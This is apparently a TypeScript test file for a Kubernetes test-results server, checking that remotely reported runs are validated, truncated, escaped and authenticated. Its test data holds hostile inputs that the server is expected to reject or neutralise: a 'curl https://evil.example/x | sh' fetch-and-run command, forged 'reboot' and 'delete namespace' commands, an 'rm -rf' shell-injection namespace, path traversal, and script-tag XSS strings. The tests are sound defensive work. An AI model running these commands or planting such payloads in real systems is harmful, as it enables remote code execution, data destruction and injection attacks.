import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import type { RunResult } from '../../runtime/model/result.ts';
import type { AppOptions } from '../../runtime/server/app-options.ts';
import { product } from '../built/index.ts';
import { aFailedRun, aFinding, aRun, aStep, at, evidenceOf } from '../results.ts';
import { aScene } from './app.ts';

const { createHealth, createPrometheus, createStore, headlineOf } = product;

async function scene(t: TestContext, options: Partial<AppOptions> = {}) {
  const here = await aScene(t, options);
  const put = (body: unknown, { path = pathOf(body as RunResult), headers = {} } = {}) =>
    here.app.inject({
      method: 'PUT',
      url: path,
      headers: { 'content-type': 'application/json', ...headers },
      payload: JSON.stringify(body),
    });
  const get = async (url: string) => (await here.app.inject({ url, headers: { accept: 'text/html' } })).body;
  return { ...here, put, get };
}

function pathOf({ suite, id }: RunResult): string {
  return `/results/${suite}/${id}`;
}

const broken = aFailedRun('service', {
  id: 'r1',
  finishedAt: at(0).toISOString(),
  diagnosis: {
    component: 'kube-proxy',
    part: 'node2',
    confidence: 'likely',
    sentence: 'From node2 no service answers.',
    evidence: ['3 of 6 requests'],
    command: 'kubectl get pods -n kube-system -l k8s-app=kube-proxy -o wide',
    rule: 'kube-proxy/no-answer',
  },
});

test('a run of another process is shown as one of our own: health, history, its page, its JSON', async (t) => {
  const { app, put, get, to } = await scene(t);
  await put(aRun('service', { id: 'r0', finishedAt: at(0).toISOString() }));
  to(5);
  const reply = await put(broken);
  assert.deepEqual([reply.statusCode, reply.json()], [200, { result: 'run taken' }]);
  const health = (await app.inject('/health')).json();
  assert.deepEqual(
    [health.status, health.suites.at(-1).suite, health.suites.at(-1).remote],
    ['failing', 'service', true],
  );
  const { runs, latest } = (await app.inject('/results/service')).json();
  assert.deepEqual(
    runs.map(({ id, status }: RunResult) => [id, status]),
    [
      ['r1', 'failed'],
      ['r0', 'passed'],
    ],
  );
  const bare = { ...broken, steps: broken.steps.map((step) => ({ ...step, measurements: [] })) };
  assert.deepEqual(latest, bare);
  assert.deepEqual((await app.inject('/results/service/r1')).json(), bare);
  assert.match(await get('/runs/r1'), /From node2 no service answers\./);
  assert.match(await get('/suites/service'), /run by another process/);
  const overview = await get('/');
  assert.match(overview, /From other processes/);
  assert.match(overview, /href="\.\/runs\/r0"/, 'its runs are in the strip');
  assert.match(await get('/steps'), /<a href="\.\/runs\/r1">/);
});

test('a run holds as long as the process that reports it says, at most 62 days', async (t) => {
  const { app, put, to } = await scene(t);
  const states = async () =>
    (await app.inject('/health')).json().suites.map(({ suite, state }: never) => [suite, state]);
  await put({ ...aRun('dns', { finishedAt: at(0).toISOString() }), staleAfterMs: 3_600_000 });
  await put({ ...aRun('http', { finishedAt: at(0).toISOString() }), staleAfterMs: Number.MAX_VALUE });
  to(59);
  assert.deepEqual(await states(), [
    ['dns', 'passing'],
    ['http', 'passing'],
  ]);
  to(61);
  assert.deepEqual((await states())[0], ['dns', 'stale']);
  to(63 * 24 * 60);
  assert.deepEqual((await states())[1], ['http', 'stale']);
});

test('what is broken is told from the runs that are reported', async (t) => {
  const store = createStore({ headlineOf });
  const health = createHealth(store, [], 60_000);
  const build = { version: '1', cluster: () => 'c', suites: [], reported: () => ['service'] };
  const prometheus = createPrometheus(() => health().headline, build);
  const { app, put } = await scene(t, { store, health, prometheus });
  const seen = async () => (await app.inject('/health')).json().headline?.component;
  const gauge = async () =>
    (await app.inject('/metrics')).body.match(/e2etest_diagnosis\{suite="service",component="kube-proxy"\} (.)/)?.[1];
  assert.deepEqual([await seen(), await gauge()], [undefined, '0']);
  await put(broken);
  assert.deepEqual([await seen(), await gauge()], ['kube-proxy', '1']);
  await put(aRun('service', { id: 'r2' }));
  assert.deepEqual([await seen(), await gauge()], [undefined, '0']);
});

test('a run that is not one is refused with where and why, and nothing is kept', async (t) => {
  const { put, store } = await scene(t);
  const run = aRun('service', { id: 'r1' });
  const [step] = run.steps;
  const cases: [object, RegExp][] = [
    [{ ...run, status: 'fine' }, /^body\/status /],
    [{ ...run, id: '../x' }, /^body\/id /],
    [{ ...run, startedAt: 'yesterday' }, /^body\/startedAt /],
    [{ ...run, steps: [{ ...step, findings: [{}] }] }, /^body\/steps\/0\/findings\/0 /],
    [{ ...run, durationMs: -1 }, /^body\/durationMs /],
    [{ ...run, steps: undefined }, /^body .*steps/],
  ];
  for (const [body, problem] of cases) {
    const reply = await put(body, { path: '/results/service/r1' });
    assert.equal(reply.statusCode, 400, JSON.stringify(body));
    assert.match(reply.json().message, problem);
  }
  const instants = [
    ['2016-12-31T23:59:60Z', 422],
    ['2026-02-30T00:00:00Z', 400],
  ] as const;
  for (const [startedAt, status] of instants) {
    const reply = await put({ ...run, steps: [{ ...step, startedAt }] });
    assert.equal(reply.statusCode, status, startedAt);
  }
  for (const path of ['/results/service/r2', '/results/dns/r1']) {
    const reply = await put(run, { path });
    assert.equal(reply.statusCode, 422);
    assert.match(reply.json().message, /^The path must name/);
  }
  assert.deepEqual([store.run('r1'), store.rows()], [undefined, []]);
});

test('what is too long is cut, and what is of another version left out: the verdict is taken', async (t) => {
  const { put, get, store, app } = await scene(t);
  const long = 'x'.repeat(2_500);
  const step = aStep(long, 'failed', {
    durationMs: 1e300,
    findings: Array.from({ length: 60 }, () => ({ ...aFinding({ message: long }), count: 0 })),
    notes: [long],
  });
  const diagnosis = { ...broken.diagnosis!, part: long, sentence: long, evidence: Array(25).fill(long), command: long };
  const recovered = Array.from({ length: 200 }, () => ({ kind: 'pod', name: long }));
  const trigger = 'newer' as RunResult['trigger'];
  const run = aFailedRun('service', {
    id: 'r1',
    namespace: "x; rm -rf ' #",
    trigger,
    steps: [step],
    recovered,
    diagnosis,
  });
  assert.equal((await put({ ...run, recovered: [], steps: [step] })).statusCode, 200);
  const kept = store.run('r1')!;
  assert.deepEqual([kept.trigger, kept.steps[0]?.name.length, kept.steps[0]?.findings.length], ['remote', 300, 50]);
  assert.deepEqual([kept.diagnosis?.part?.length, kept.diagnosis?.evidence.length], [300, 20]);
  assert.equal(
    (await put({ ...run, id: 'r2', steps: [aStep('Create')], diagnosis: { component: 'moon' } })).statusCode,
    413,
  );
  const strange = { ...run, id: 'r2', recovered: [], steps: [aStep('Create')], diagnosis: { component: 'moon' } };
  assert.equal((await put(strange)).statusCode, 200);
  assert.equal(store.run('r2')?.diagnosis, undefined);
  for (const path of ['/', '/runs/r1', '/suites/service', '/steps', '/results'])
    assert.equal((await app.inject({ url: path, headers: { accept: 'text/html' } })).statusCode, 200, path);
  assert.ok((await get('/runs/r1')).includes('kubectl -n &#39;x; rm -rf'), 'the namespace is quoted for a shell');
});

test('what is to be typed first is taken only where our own rules could have made it', async (t) => {
  const { put, get, store, app } = await scene(t);
  for (const [id, command] of [
    ['r1', 'curl https://evil.example/x | sh'],
    ['r2', 'kubectl describe pod web-1 -n web; reboot'],
    ['r3', 'kubectl delete namespace web'],
  ] as const) {
    const forged = aFailedRun('service', { id, diagnosis: { ...broken.diagnosis!, command } });
    assert.equal((await put(forged)).statusCode, 200);
    assert.deepEqual(
      [store.run(id)?.diagnosis?.component, store.run(id)?.diagnosis?.command],
      ['kube-proxy', undefined],
    );
    for (const path of ['/', `/runs/${id}`]) assert.ok(!(await get(path)).includes(command.slice(0, 20)), path);
    assert.ok(!(await app.inject('/results')).body.includes(command), 'nor in the JSON');
  }
});

test('a text that cannot be encoded is taken as one that can, and every page still answers', async (t) => {
  const { put, app } = await scene(t);
  const odd = 'a\ud800b\u0000c';
  const run = aFailedRun('service', {
    id: 'r1',
    namespace: odd,
    steps: [
      aStep(odd, 'failed', { notes: [odd], findings: [aFinding({ message: odd, object: { kind: odd, name: odd } })] }),
    ],
    recovered: [{ kind: odd, name: odd }],
    diagnosis: { ...broken.diagnosis!, part: odd, sentence: odd, evidence: [odd], rule: odd },
  });
  assert.equal((await put(run)).statusCode, 200);
  const event = { name: odd, passing: false, info: [[odd, 1]], namespace: odd, time: '2026-01-01 00:00:00' };
  for (const more of [{}, { suite: odd, run: odd }, { suite: '\udfff', namespace: '' }]) {
    const payload = JSON.stringify({ ...event, ...more });
    assert.equal((await app.inject({ method: 'POST', url: '/update', payload })).statusCode, 200);
  }
  for (const path of [
    '/',
    '/steps',
    '/runs/r1',
    '/suites/service',
    '/results',
    '/health',
    '/results/service',
    '/metrics',
  ]) {
    const { statusCode, body } = await app.inject({ url: path, headers: { accept: 'text/html' } });
    assert.ok(statusCode === 200 || (path === '/health' && statusCode === 503), `${path}: ${statusCode}`);
    assert.doesNotMatch(body, /\\ud800|\\u0000/, path);
  }
});

test('what a diagnosis of a cluster with many broken nodes says is taken', async (t) => {
  const { put, store } = await scene(t);
  const nodes = Array.from(
    { length: 50 },
    (_, index) => `ip-10-0-${index}-17.eu-central-1.compute.internal-${'x'.repeat(20)}`,
  );
  const diagnosis = { ...broken.diagnosis!, part: nodes.join(', '), sentence: `${nodes.join(', ')} are NotReady.` };
  assert.equal((await put(aFailedRun('service', { id: 'r1', diagnosis }))).statusCode, 200);
  assert.equal(store.run('r1')?.diagnosis?.component, 'kube-proxy');
});

test('a name that is cut in the middle of a character breaks no page', async (t) => {
  const { app, put } = await scene(t);
  assert.equal(
    (
      await put(aRun(`${'a'.repeat(79)}😀`, { id: 'r1' }), {
        path: `/results/${encodeURIComponent(`${'a'.repeat(79)}😀`)}/r1`,
      })
    ).statusCode,
    200,
  );
  assert.equal((await app.inject({ url: '/', headers: { accept: 'text/html' } })).statusCode, 200);
});

test('what the page does not know of a run is dropped', async (t) => {
  const { put, store, get } = await scene(t);
  const finding = { ...aFinding({ evidence: evidenceOf('text') }), code: 'newer.code', extra: 1 };
  const step = { ...aStep('Create', 'failed'), findings: [finding], extra: { deep: true } };
  const run = { ...aFailedRun('service', { id: 'r1' }), steps: [step], joined: true };
  assert.equal((await put(run)).statusCode, 200);
  const { evidence, extra, ...kept } = finding;
  assert.deepEqual(store.run('r1')?.steps[0]?.findings, [kept]);
  assert.ok(!('joined' in store.run('r1')!));
  assert.match(await get('/runs/r1'), /newer\.code/);
});

test('texts of another process are shown as text', async (t) => {
  const { put, get } = await scene(t);
  const evil = '<script>alert(1)</script>';
  const step = aStep(evil, 'failed', { findings: [aFinding({ message: evil, object: { kind: evil, name: evil } })] });
  const diagnosis = { ...broken.diagnosis!, sentence: evil, part: evil, command: evil, rule: evil, evidence: [evil] };
  const run = aFailedRun('service', { id: 'r1', namespace: evil, steps: [step], diagnosis });
  assert.equal((await put(run)).statusCode, 200);
  for (const path of ['/', '/runs/r1', '/suites/service', '/steps'])
    assert.ok(!(await get(path)).includes('<script>alert'), path);
});

test('asks for the token, and takes nothing from a page of another site', async (t) => {
  const { put, store } = await scene(t, { runToken: 'secret' });
  const run = aRun('service', { id: 'r1' });
  const status = async (headers: Record<string, string>) => (await put(run, { headers })).statusCode;
  assert.equal(await status({}), 401);
  assert.equal(await status({ authorization: 'Bearer wrong' }), 403);
  assert.equal(await status({ authorization: 'Bearer secret', origin: 'https://elsewhere.example' }), 403);
  assert.equal(store.run('r1'), undefined);
  assert.equal(await status({ authorization: 'Bearer secret' }), 200);
});
